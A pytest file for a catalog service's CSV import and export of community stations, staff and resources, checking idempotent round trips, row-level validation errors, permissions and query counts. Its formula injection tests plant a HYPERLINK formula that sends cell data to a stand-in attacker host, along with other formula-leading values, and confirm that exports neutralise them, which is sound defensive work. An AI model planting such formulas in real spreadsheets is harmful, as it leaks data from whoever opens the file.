"""CSV import and export of stations, staff and resources: idempotent, all rows or none, bad rows named."""

from __future__ import annotations

import csv
import io

import pytest
import sqlalchemy as sa
from sqlalchemy import event

from catalog_service.resources.models import Resource
from catalog_service.staff.models import StaffMember
from catalog_service.stations.models import Station
from shared.events.tables import outbox_message
from shared.ids import stable_id, utcnow
from tests.catalog.conftest import DEMO_STATION_ID, department, district_admin, problem, subdistrict_admin

CSV = {"content-type": "text/csv"}
STATION_HEADER = "subdistrict,community,community_kind,name,address,latitude,longitude,phone,hours,exceptions\n"


async def _count(catalog, model) -> int:
    async with catalog.database.sessionmaker() as session:
        return await session.scalar(sa.select(sa.func.count()).select_from(model))


async def _events(catalog, event_type: str, since) -> int:
    """Events of this type written since `since` (the seed's are older)."""
    async with catalog.database.sessionmaker() as session:
        return await session.scalar(
            sa.select(sa.func.count()).where(
                outbox_message.c.event_type == event_type, outbox_message.c.created_at > since
            )
        )


async def test_station_export_imports_back_unchanged(api, catalog):
    since = utcnow()
    exported = await api.get("/api/v1/stations.csv")
    assert exported.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert len(rows) == 1285
    demo = next(r for r in rows if r["community"] == "市新居委会")
    assert demo["hours"] == "mon-fri 08:30-11:30,13:00-20:00; sat 08:30-11:30"
    assert "2027-01-01 closed 元旦" in demo["exceptions"]
    result = await api.post("/api/v1/stations.csv", headers={**district_admin(), **CSV}, content=exported.text.encode())
    assert result.json() == {"created": 0, "updated": 0, "unchanged": 1285}
    assert await _events(catalog, "station.updated", since) == 0


async def test_station_import_creates_then_is_idempotent_then_updates(api, catalog):
    since = utcnow()
    body = STATION_HEADER + (
        "陆家嘴街道,东园一村居委会,neighbourhood,东园一村居委会家门口服务站,东园路1号,31.2301,121.5302,021-1,"
        '"mon-fri 09:00-11:30,13:30-19:00; sat 09:00-11:00",2026-12-31 closed 跨年\n'
        "陆家嘴街道,东园二村居委会,,东园二村居委会家门口服务站,东园路2号,31.2311,121.5312,,,\n"
    )
    headers = {**subdistrict_admin(), **CSV}
    first = await api.post("/api/v1/stations.csv", headers=headers, content=body.encode())
    assert first.json() == {"created": 2, "updated": 0, "unchanged": 0}, first.text
    station = (await api.get(f"/api/v1/stations/{stable_id('station', '陆家嘴街道', '东园一村居委会')}")).json()
    assert station["opening_hours"]["weekly_periods"][1] == {"weekday": 0, "opens": "13:30", "closes": "19:00"}
    assert station["opening_hours"]["exceptions"] == [{"day": "2026-12-31", "periods": [], "note": "跨年"}]
    again = await api.post("/api/v1/stations.csv", headers=headers, content=body.encode())
    assert again.json() == {"created": 0, "updated": 0, "unchanged": 2}
    assert await _events(catalog, "station.created", since) == 2
    changed = await api.post(
        "/api/v1/stations.csv", headers=headers, content=body.replace("东园路2号", "东园路22号").encode()
    )
    assert changed.json() == {"created": 0, "updated": 1, "unchanged": 1}
    assert await _events(catalog, "station.updated", since) == 1


async def test_bad_station_rows_are_all_reported_and_nothing_is_written(api, catalog):
    body = STATION_HEADER + (
        "陆家嘴街道,好社区,,好社区家门口服务站,好路1号,31.23,121.51,,,\n"
        "火星街道,坏社区一,,x,y,31.23,121.51,,,\n"
        "陆家嘴街道,坏社区二,,x,y,north,121.51,,,\n"
        '陆家嘴街道,坏社区三,,x,y,31.23,121.51,,"mon 08:00-12:00,11:00-13:00",\n'
        "陆家嘴街道,坏社区四,,x,y,31.23,121.51,,mon 18:00-08:00,\n"
        "陆家嘴街道,好社区,,重复,y,31.23,121.51,,,\n"
        "陆家嘴街道,坏社区五,,x,y,31.23,121.51,,,2026-13-01 closed\n"
        "陆家嘴街道,坏社区六,,,y,31.23,121.51,,,\n"
    )
    response = await api.post("/api/v1/stations.csv", headers={**district_admin(), **CSV}, content=body.encode())
    errors = problem(response, 422, code="invalid_rows")["errors"]
    assert [(e["line"], e["field"]) for e in errors] == [
        (3, "subdistrict"),
        (4, "latitude"),
        (5, "hours"),
        (6, "hours"),
        (7, "community"),
        (8, "exceptions"),
        (9, "name"),
    ]
    assert await _count(catalog, Station) == 1285


async def test_malformed_csv_files_are_refused(api):
    headers = {**district_admin(), **CSV}
    missing = problem(await api.post("/api/v1/stations.csv", headers=headers, content=b"subdistrict,name\nx,y\n"), 422)
    assert {e["field"] for e in missing["errors"]} == {"community", "address", "latitude", "longitude"}
    problem(await api.post("/api/v1/stations.csv", headers=headers, content=b"\xff\xfe\x00bad"), 422, field="body")
    ragged = STATION_HEADER + "陆家嘴街道,只有三列,x\n"
    errors = problem(await api.post("/api/v1/stations.csv", headers=headers, content=ragged.encode()), 422)["errors"]
    assert errors == [{"line": 2, "field": "row", "message": "3 values for 10 columns"}]
    problem(await api.post("/api/v1/stations.csv", headers=headers, content=b""), 422)


async def test_station_import_outside_ones_subdistrict_is_forbidden(api, catalog):
    body = STATION_HEADER + "周浦镇,新村子,village,新村子家门口服务站,周浦路1号,31.11,121.58,,,\n"
    problem(await api.post("/api/v1/stations.csv", headers={**subdistrict_admin(), **CSV}, content=body.encode()), 403)
    problem(await api.post("/api/v1/stations.csv", headers={**department(), **CSV}, content=body.encode()), 403)
    assert await _count(catalog, Station) == 1285


async def test_staff_export_imports_back_unchanged_and_rows_create_update_remove(api, catalog):
    since = utcnow()
    headers = {**subdistrict_admin(), **CSV}
    exported = await api.get("/api/v1/staff.csv", headers=subdistrict_admin())
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert rows and all(r["subdistrict"] == "陆家嘴街道" for r in rows)
    same = await api.post("/api/v1/staff.csv", headers=headers, content=exported.text.encode())
    assert same.json() == {"created": 0, "updated": 0, "unchanged": len(rows)}, same.text
    new = (
        "name,role,subdistrict,community,department_kind,service_categories,phone,active\n"
        "赵新人,social_worker,陆家嘴街道,市新居委会,,daily_life|legal,,true\n"
        "钱科员,department_staff,陆家嘴街道,,civil_affairs,daily_life,,true\n"
    )
    assert (await api.post("/api/v1/staff.csv", headers=headers, content=new.encode())).json()["created"] == 2
    assert (await api.post("/api/v1/staff.csv", headers=headers, content=new.encode())).json()["unchanged"] == 2
    gone = new.replace("daily_life|legal,,true", "daily_life|legal,,false")
    assert (await api.post("/api/v1/staff.csv", headers=headers, content=gone.encode())).json()["updated"] == 1
    member_id = stable_id("staff", "陆家嘴街道", "市新居委会", "social_worker", "赵新人")
    member = (await api.get(f"/api/v1/staff/{member_id}", headers=subdistrict_admin())).json()
    assert member["active"] is False and member["station_id"] == DEMO_STATION_ID
    assert await _events(catalog, "staff.removed", since) == 1


async def test_bad_staff_rows_are_reported(api, catalog):
    before = await _count(catalog, StaffMember)
    body = (
        "name,role,subdistrict,community,department_kind,service_categories,phone,active\n"
        "甲,chef,陆家嘴街道,市新居委会,,,,\n"
        "乙,social_worker,陆家嘴街道,没有的社区,,,,\n"
        "丙,social_worker,陆家嘴街道,市新居委会,,cooking,,\n"
        "丁,department_staff,陆家嘴街道,,space_agency,,,\n"
        "戊,social_worker,陆家嘴街道,市新居委会,,,,maybe\n"
    )
    errors = problem(
        await api.post("/api/v1/staff.csv", headers={**district_admin(), **CSV}, content=body.encode()), 422
    )["errors"]
    assert [(e["line"], e["field"]) for e in errors] == [
        (2, "role"),
        (3, "community"),
        (4, "service_categories"),
        (5, "department_kind"),
        (6, "active"),
    ]
    assert await _count(catalog, StaffMember) == before


async def test_resources_export_import_round_trip_and_scope(api, catalog):
    exported = await api.get("/api/v1/resources.csv", headers=district_admin())
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert len(rows) == await _count(catalog, Resource)
    same = await api.post("/api/v1/resources.csv", headers={**district_admin(), **CSV}, content=exported.text.encode())
    assert same.json() == {"created": 0, "updated": 0, "unchanged": len(rows)}, same.text
    header = exported.text.splitlines()[0] + "\n"
    mine = (
        header
        + ",旧衣回收,daily_life,陆家嘴街道,civil_affairs,,旧衣物集中回收,2,车,3,2026-12-01..2027-06-30 sat/sun,,true\n"
    )
    created = await api.post("/api/v1/resources.csv", headers={**department(), **CSV}, content=mine.encode())
    assert created.json() == {"created": 1, "updated": 0, "unchanged": 0}, created.text
    found = (await api.get("/api/v1/resources", headers=department(), params={"q": "旧衣回收"})).json()["items"][0]
    assert found["availability"][0]["weekdays"] == [5, 6] and found["allowed_subdistrict_ids"] == [
        found["subdistrict_id"]
    ]
    justice = header + ",法律讲座,legal,陆家嘴街道,justice,,x,1,场,3,2026-12-01..2027-06-30,,true\n"
    problem(await api.post("/api/v1/resources.csv", headers={**department(), **CSV}, content=justice.encode()), 403)
    bad = header + ",坏资源,legal,陆家嘴街道,civil_affairs,,x,0,场,3,2026-12-31..2026-12-01,火星街道,true\n"
    errors = problem(
        await api.post("/api/v1/resources.csv", headers={**department(), **CSV}, content=bad.encode()), 422
    )["errors"]
    assert {e["field"] for e in errors} == {"capacity", "availability", "allowed_subdistricts"}


# --- CSV formula injection (issue 12, point 8) --------------------------------------------------------
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLANTED = {
    "hyperlink": '=HYPERLINK("http://evil.example/?"&A1,"点这里")',
    "plus": "+1",
    "minus": "-2",
    "at": "@SUM(A1:A9)",
    "tab": "\tX",
    "carriage_return": "\rY",
}


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _no_formula(text: str) -> list[list[str]]:
    rows = _cells(text)
    starting = [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
    assert starting == [], starting
    return rows


async def test_planted_formulas_never_reach_an_exported_csv_and_the_file_imports_back_unchanged(api, catalog):
    admin = district_admin()
    station = await api.patch(
        f"/api/v1/stations/{DEMO_STATION_ID}",
        headers=admin,
        json={"name": PLANTED["hyperlink"], "address": PLANTED["plus"], "phone": PLANTED["minus"]},
    )
    assert station.status_code == 200, station.text
    member = await api.post(
        "/api/v1/staff",
        headers=admin,
        json={"name": PLANTED["at"], "role": "social_worker", "station_id": DEMO_STATION_ID, "phone": PLANTED["tab"]},
    )
    assert member.status_code == 201, member.text
    resources = (await api.get("/api/v1/resources", headers=admin)).json()["items"]
    resource = await api.patch(
        f"/api/v1/resources/{resources[0]['id']}",
        headers=admin,
        json={"title": PLANTED["carriage_return"], "description": PLANTED["hyperlink"]},
    )
    assert resource.status_code == 200, resource.text

    stations = _no_formula((await api.get("/api/v1/stations.csv")).text)  # public: no token
    staff = _no_formula((await api.get("/api/v1/staff.csv", headers=admin)).text)
    exported_resources = await api.get("/api/v1/resources.csv", headers=admin)
    resource_rows = _no_formula(exported_resources.text)
    # Each planted value is there, as text a spreadsheet shows and does not run.
    assert ["'" + PLANTED[key] for key in ("hyperlink", "plus", "minus")] == next(
        row[3:5] + row[7:8] for row in stations if row[1] == "市新居委会"
    )
    assert next(row for row in staff if row[0] == member.json()["id"])[1] == "'" + PLANTED["at"]
    planted_resource = next(row for row in resource_rows if row[0] == resources[0]["id"])
    assert (planted_resource[1], planted_resource[6]) == ("'" + PLANTED["carriage_return"], "'" + PLANTED["hyperlink"])

    # Imported back as exported: the apostrophe the export added comes off, nothing changes.
    for path, text, headers in (
        ("/api/v1/stations.csv", (await api.get("/api/v1/stations.csv")).text, admin),
        ("/api/v1/resources.csv", exported_resources.text, admin),
    ):
        again = await api.post(path, headers={**headers, **CSV}, content=text.encode())
        assert again.status_code == 200, again.text
        assert again.json()["created"] == 0 and again.json()["updated"] == 0, (path, again.json())
    mine = subdistrict_admin()
    staff_text = (await api.get("/api/v1/staff.csv", headers=mine)).text
    again = await api.post("/api/v1/staff.csv", headers={**mine, **CSV}, content=staff_text.encode())
    assert again.json()["created"] == 0 and again.json()["updated"] == 0, again.text
    read_back = (await api.get(f"/api/v1/stations/{DEMO_STATION_ID}")).json()
    assert (read_back["name"], read_back["address"], read_back["phone"]) == (
        PLANTED["hyperlink"],
        PLANTED["plus"],
        PLANTED["minus"],
    )
    planted_member = (await api.get(f"/api/v1/staff/{member.json()['id']}", headers=admin)).json()
    assert (planted_member["name"], planted_member["phone"]) == (PLANTED["at"], PLANTED["tab"])


@pytest.mark.parametrize("path", ["/api/v1/staff.csv", "/api/v1/resources.csv"])
async def test_a_district_wide_export_costs_a_few_queries_not_one_per_row(api, catalog, path):
    """The district's ~11,000 staff in one export: a query per row (each row's community) made the
    download take seconds of database round trips."""
    engine = catalog.database.engine
    statements: list[str] = []

    def count(conn, cursor, statement, parameters, context, executemany):
        statements.append(statement)

    event.listen(engine.sync_engine, "before_cursor_execute", count)
    try:
        response = await api.get(path, headers=district_admin())
    finally:
        event.remove(engine.sync_engine, "before_cursor_execute", count)
    assert response.status_code == 200, response.text
    rows = len(response.text.strip().splitlines()) - 1
    assert rows > 100, rows  # the seeded district, so a query per row would show
    assert len(statements) <= 12, statements[:20]
